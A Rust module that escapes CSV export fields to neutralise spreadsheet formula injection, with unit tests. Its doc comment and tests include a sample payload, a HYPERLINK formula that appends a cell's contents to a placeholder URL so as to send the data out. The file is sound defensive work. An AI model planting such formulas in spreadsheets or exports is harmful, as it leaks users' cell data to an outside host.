//! CSV fields, written once for every export (tables, batch summaries,
//! findings): quoted where they must be, and safe to open in a spreadsheet.
//!
//! A text field that starts with `=`, `+`, `-`, `@`, a tab or a carriage
//! return would be run as a formula by Excel, WPS or LibreOffice
//! (`=HYPERLINK("http://…"&A1,"click")`); following OWASP's guidance on CSV
//! injection it gets a leading `'` and is quoted, so it shows as the text it
//! is. Numbers are written as numbers, negative ones included (2019's 本年增/
//! 减 may be negative).

/// A field of text (a label, an agency, a message, a text cell).
pub fn text(value: &str) -> String {
    let risky = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let value = if risky { format!("'{value}") } else { value.to_string() };
    if risky || value.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value
    }
}

/// A field holding a number as the document spells it (`-3`, `24252.31`):
/// written as it is, so spreadsheets read a number. Anything that is not a
/// plain decimal number is written as text.
pub fn number(spelling: &str) -> String {
    let digits = spelling.strip_prefix('-').unwrap_or(spelling);
    let plain = !digits.is_empty()
        && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
        && digits.chars().filter(|&c| c == '.').count() <= 1
        && digits.starts_with(|c: char| c.is_ascii_digit());
    if plain {
        spelling.to_string()
    } else {
        text(spelling)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_numbers_stay_numbers() {
        assert_eq!(text("=HYPERLINK(\"http://x\"&A1,\"click\")"), "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\"");
        for risky in ["+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"] {
            assert!(text(risky).starts_with("\"'"), "{risky}");
        }
        assert_eq!(text("淮安市人民政府"), "淮安市人民政府");
        assert_eq!(text("a,\"b\""), "\"a,\"\"b\"\"\"");
        assert_eq!(number("-3"), "-3");
        assert_eq!(number("24252.311082"), "24252.311082");
        assert_eq!(number("0"), "0");
        // Spellings that are not plain numbers are text, and neutralised.
        assert_eq!(number("-1e3"), "\"'-1e3\"");
        assert_eq!(number("=1"), "\"'=1\"");
    }
}
